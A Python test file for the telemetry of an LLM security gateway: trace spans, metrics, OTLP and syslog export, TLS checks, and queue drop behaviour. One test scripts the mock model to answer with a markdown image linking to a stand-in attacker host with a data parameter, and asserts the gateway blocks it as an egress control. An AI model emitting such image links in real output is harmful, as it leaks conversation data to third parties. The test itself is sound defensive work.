"""Spans, metrics and records that leave the machine: to real sockets, and never in the way."""

import http.server
import json
import re
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openai
import pytest
from gateway_support import Gateway, Provider, gateway_of, make_policy, message

from seawall.core.errors import InputError
from seawall.gateway.telemetry.exporters import Exporters
from seawall.gateway.telemetry.otlp import collector
from seawall.gateway.telemetry.outbox import Outbox
from seawall.gateway.telemetry.providers import provider_of
from seawall.gateway.telemetry.syslog import Durable, Syslog
from seawall.policy.model import Price, Upstream
from seawall.store.chain import canonical

TRACE, PARENT = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
HEADER = re.compile(
    rb"<110>1 \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z \S+ seawall \d+ audit "
    rb'\[seawall@32473 seq="(\d+)" hash="([0-9a-f]{64})"\] \xef\xbb\xbf(\{.*\})',
    re.DOTALL,
)


class Collector:
    """A collector on a loopback port that keeps what it gets, by path."""

    def __init__(self) -> None:
        self.got: list[tuple[str, dict[str, str], Any]] = []
        self.status = 200
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["content-length"]))
                headers = {name.lower(): value for name, value in self.headers.items()}
                outer.got.append((self.path, headers, json.loads(body)))
                self.send_response(outer.status)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def bodies(self, path: str) -> list[Any]:
        return [body for got, _, body in self.got if got == path]


@pytest.fixture
def collecting() -> Iterator[Collector]:
    found = Collector()
    yield found
    found.server.shutdown()
    found.server.server_close()


def wait(condition: Callable[[], Any], seconds: float = 20.0) -> Any:
    end = time.monotonic() + seconds
    while not (value := condition()):
        assert time.monotonic() < end, "nothing came in time"
        threading.Event().wait(0.01)
    return value


def plain(pairs: list[dict[str, Any]]) -> dict[str, Any]:
    """Attributes as a dict."""

    def value(item: dict[str, Any]) -> Any:
        ((kind, inner),) = item.items()
        if kind == "arrayValue":
            return [value(one) for one in inner["values"]]
        return int(inner) if kind == "intValue" else inner

    return {pair["key"]: value(pair["value"]) for pair in pairs}


def spans(collecting: Collector) -> list[dict[str, Any]]:
    return [
        span
        for body in collecting.bodies("/v1/traces")
        for span in body["resourceSpans"][0]["scopeSpans"][0]["spans"]
    ]


def metrics(collecting: Collector) -> dict[str, dict[str, Any]]:
    body = collecting.bodies("/v1/metrics")[-1]
    found = body["resourceMetrics"][0]["scopeMetrics"][0]["metrics"]
    return {metric["name"]: metric for metric in found}


def ask(gateway: Gateway, **options: Any) -> Any:
    return gateway.client().chat.completions.create(
        model="small", messages=[{"role": "user", "content": "Hi, a secret-marker here"}], **options
    )


@pytest.mark.parametrize("newest", [False, True])
def test_a_request_becomes_two_spans_and_metrics(
    provider: Provider, tmp_path: Path, collecting: Collector, newest: bool
) -> None:
    provider.reset()
    provider.script = message("![x](https://evil.example/a?d=1)")
    env = {
        "OTEL_EXPORTER_OTLP_ENDPOINT": collecting.url,
        "OTEL_EXPORTER_OTLP_HEADERS": "x-token=a%20b",
        "OTEL_SERVICE_NAME": "gate",
        "OTEL_LOGS_EXPORTER": "none",
        "OTEL_SEMCONV_STABILITY_OPT_IN": "http,gen_ai_latest_experimental" if newest else "",
    }
    with gateway_of(make_policy(provider), provider, tmp_path, env=env) as gateway:
        ask(gateway, extra_headers={"traceparent": f"00-{TRACE}-{PARENT}-01"})
        ask(gateway, extra_headers={"traceparent": f"00-{TRACE}-{PARENT}-00"})
    found = spans(collecting)
    assert len(found) == 2, "the second request was not sampled"
    server, client = found
    assert {span["traceId"] for span in found} == {TRACE}
    assert (server["parentSpanId"], client["parentSpanId"]) == (PARENT, server["spanId"])
    assert (server["kind"], client["kind"]) == (2, 3)
    assert int(server["startTimeUnixNano"]) <= int(client["startTimeUnixNano"])
    assert int(client["startTimeUnixNano"]) < int(client["endTimeUnixNano"])
    assert int(client["endTimeUnixNano"]) <= int(server["endTimeUnixNano"])
    own, theirs = plain(server["attributes"]), plain(client["attributes"])
    assert (own["seawall.result"], own["seawall.function"]) == ("blocked", "chat")
    assert (own["seawall.controls"], own["seawall.actions"]) == (["CTL-EGRESS"], ["block"])
    assert client["name"] == "chat real-small" and own["seawall.model"] == "small"
    system, other = ("gen_ai.provider.name", "gen_ai.system")[:: 1 if newest else -1]
    assert theirs[system] == "openai" and other not in theirs
    host, port = provider.url.split("/")[2].split(":")
    place = {"server.address": host, "server.port": int(port), "seawall.upstream": "main"}
    assert place.items() <= theirs.items()
    assert (theirs["gen_ai.usage.input_tokens"], theirs["gen_ai.usage.output_tokens"]) == (5, 7)
    got = metrics(collecting)
    (point,) = got["gen_ai.client.operation.duration"]["histogram"]["dataPoints"]
    assert point["count"] == "2" and plain(point["attributes"])[system] == "openai"
    assert place.items() <= plain(point["attributes"]).items()
    kinds = {
        plain(point["attributes"])["gen_ai.token.type"]: point["sum"]
        for point in got["gen_ai.client.token.usage"]["histogram"]["dataPoints"]
    }
    assert kinds == {"input": 10, "output": 14}
    (requests,) = got["seawall.requests"]["sum"]["dataPoints"]
    assert requests["asDouble"] == 2 and got["seawall.requests"]["sum"]["isMonotonic"]
    _, headers, body = collecting.got[0]
    assert headers["x-token"] == "a b" and headers["content-type"] == "application/json"
    assert plain(body["resourceSpans"][0]["resource"]["attributes"])["service.name"] == "gate"
    assert "secret-marker" not in json.dumps(collecting.got)
    assert not collecting.bodies("/v1/logs")


@pytest.mark.parametrize(
    ("kind", "url", "old", "new"),
    [("openai", "https://api.openai.com/v1", "openai", "openai"),
     ("anthropic", "https://api.anthropic.com/v1", "anthropic", "anthropic"),
     ("openai", "https://shop.openai.azure.com/openai/v1", "azure.ai.openai", "azure.ai.openai"),
     ("openai", "https://generativelanguage.googleapis.com/v1beta/openai", "gcp.gemini",
      "gcp.gemini"),
     ("openai", "https://api.x.ai/v1", "xai", "x_ai"),
     ("openai", "https://evil-api.x.ai.example/v1", "openai", "openai"),
     ("openai", "http://127.0.0.1:99999/v1", "openai", "openai")],
)  # fmt: skip
def test_providers_have_the_names_of_the_conventions(
    kind: Any, url: str, old: str, new: str
) -> None:
    price = Price(input_per_million=1, output_per_million=1)
    upstream = Upstream(name="main", kind=kind, base_url=url, models={"m": price})
    assert [provider_of(upstream, newest=newest) for newest in (False, True)] == [old, new]


def test_every_durable_record_reaches_otlp_and_syslog(
    provider: Provider, tmp_path: Path, collecting: Collector
) -> None:
    provider.reset()
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(10)
    env = {
        "OTEL_EXPORTER_OTLP_LOGS_ENDPOINT": f"{collecting.url}/here",
        "SEAWALL_AUDIT_SYSLOG": f"udp://127.0.0.1:{server.getsockname()[1]}",
    }
    with gateway_of(make_policy(provider), provider, tmp_path, env=env) as gateway:
        ask(gateway, user="cust-7")
        with pytest.raises(openai.NotFoundError):
            gateway.client().models.retrieve("none")
        wait(lambda: len(gateway.records()) >= 2 or None)
    kept = gateway.records()
    logs = [
        json.loads(record["body"]["stringValue"])
        for body in collecting.bodies("/here")
        for record in body["resourceLogs"][0]["scopeLogs"][0]["logRecords"]
    ]
    lines = []
    for _ in kept:
        match = HEADER.fullmatch(server.recv(65_536))
        assert match
        lines.append(json.loads(match[3]))
    server.close()
    assert logs == kept == lines
    assert "cust-7" not in json.dumps(logs)


def records(count: int, size: int = 10) -> list[Durable]:
    body = canonical({"text": "x" * size})
    return [Durable(seq=n, time=10**18, hash=bytes(32), body=body) for n in range(1, count + 1)]


def test_tcp_frames_are_counted_in_octets_and_a_lost_connection_comes_back() -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        syslog = Syslog(f"tcp://127.0.0.1:{server.getsockname()[1]}")
        for _ in range(2):
            syslog.send(records(2, 3000))
            connection, _ = server.accept()
            stream = connection.makefile("rb")
            for number in (b"1", b"2"):
                length = b""
                while (char := stream.read(1)) != b" ":
                    length += char
                match = HEADER.fullmatch(stream.read(int(length)))
                assert match and match[1] == number
            connection.close()
            stream.close()
            syslog.close()


def test_tls_checks_the_servers_certificate(tmp_path: Path) -> None:
    certificate = make_certificate(tmp_path)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    got: list[bytes] = []

    def serve(listener: socket.socket) -> None:
        for _ in range(2):
            plain_socket, _ = listener.accept()
            try:
                with context.wrap_socket(plain_socket, server_side=True) as secure:
                    got.append(secure.recv(65_536))
            except OSError:
                pass

    with socket.create_server(("127.0.0.1", 0)) as listener:
        thread = threading.Thread(target=serve, args=(listener,), daemon=True)
        thread.start()
        url = f"tls://localhost:{listener.getsockname()[1]}"
        with pytest.raises(ssl.SSLError):
            Syslog(url).send(records(1))
        trusting = ssl.create_default_context(cafile=str(certificate))
        Syslog(url, context=trusting).send(records(1))
        thread.join(10)
    assert got and got[-1].split(b" ", 1)[1].startswith(b"<110>1 ")


def make_certificate(folder: Path) -> Path:
    """A certificate for localhost with its key in one file."""
    from datetime import UTC, datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import (
        Encoding,
        NoEncryption,
        PrivateFormat,
    )

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "localhost")])
    now = datetime.now(UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(hours=1))
        .not_valid_after(now + timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    path = folder / "server.txt"
    private = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    path.write_bytes(private + made.public_bytes(Encoding.PEM))
    return path


def test_a_long_record_is_named_in_a_datagram() -> None:
    message = Syslog("udp://127.0.0.1").message(records(1, 20_000)[0], 8192)
    match = HEADER.fullmatch(message)
    assert match and json.loads(match[3])["too_long"] > 20_000


def test_a_hung_sink_holds_nobody_up_and_its_losses_are_counted() -> None:
    hung, sent = threading.Event(), list[int]()

    def send(batch: list[int]) -> None:
        hung.wait(20)
        sent.extend(batch)

    outbox = Outbox("slow", send, max_waiting=5)
    began = time.perf_counter()
    for number in range(1000):
        outbox.put(number)
    assert time.perf_counter() - began < 5
    assert outbox.dropped >= 1000 - 5 - 256
    hung.set()
    wait(lambda: outbox.waiting == 0)
    assert outbox.sent == len(sent) == 1000 - outbox.dropped
    outbox.close()
    outbox.put(1)
    assert outbox.sent + outbox.dropped == 1001


def test_a_batch_that_fails_twice_is_dropped_and_the_next_is_sent() -> None:
    tries: list[list[str]] = []

    def send(batch: list[str]) -> None:
        tries.append(batch)
        if len(tries) <= 2:
            raise OSError

    outbox = Outbox("flaky", send, retry_seconds=0.01)
    outbox.put("a")
    wait(lambda: outbox.dropped == 1)
    outbox.put("b")
    wait(lambda: outbox.sent == 1)
    assert tries == [["a"], ["a"], ["b"]]
    outbox.close()


def test_a_broken_collector_changes_no_answer(
    provider: Provider, tmp_path: Path, collecting: Collector
) -> None:
    provider.reset()
    collecting.status = 500
    env = {
        "OTEL_EXPORTER_OTLP_ENDPOINT": collecting.url,
        "SEAWALL_AUDIT_SYSLOG": "tcp://127.0.0.1:1",
    }
    with gateway_of(make_policy(provider), provider, tmp_path, env=env) as gateway:
        assert ask(gateway).choices


@pytest.mark.parametrize(
    "env",
    [
        {"SEAWALL_AUDIT_SYSLOG": "http://127.0.0.1"},
        {"SEAWALL_AUDIT_SYSLOG": "tcp://127.0.0.1:99999"},
        {"OTEL_EXPORTER_OTLP_ENDPOINT": "127.0.0.1:4318"},
        {"OTEL_EXPORTER_OTLP_ENDPOINT": "http://h:4317", "OTEL_EXPORTER_OTLP_PROTOCOL": "grpc"},
        {"OTEL_EXPORTER_OTLP_ENDPOINT": "http://h", "OTEL_EXPORTER_OTLP_TIMEOUT": "soon"},
    ],
)
def test_wrong_settings_are_refused_at_the_start(env: dict[str, str]) -> None:
    with pytest.raises(InputError):
        Exporters(env, "shop")


def test_without_settings_nothing_is_exported() -> None:
    exporters = Exporters({}, "shop")
    assert not exporters.sinks and not exporters.observers and not exporters.wants_records
    off = {"OTEL_EXPORTER_OTLP_ENDPOINT": "http://h", "OTEL_SDK_DISABLED": "true"}
    assert collector(off, "traces") is None
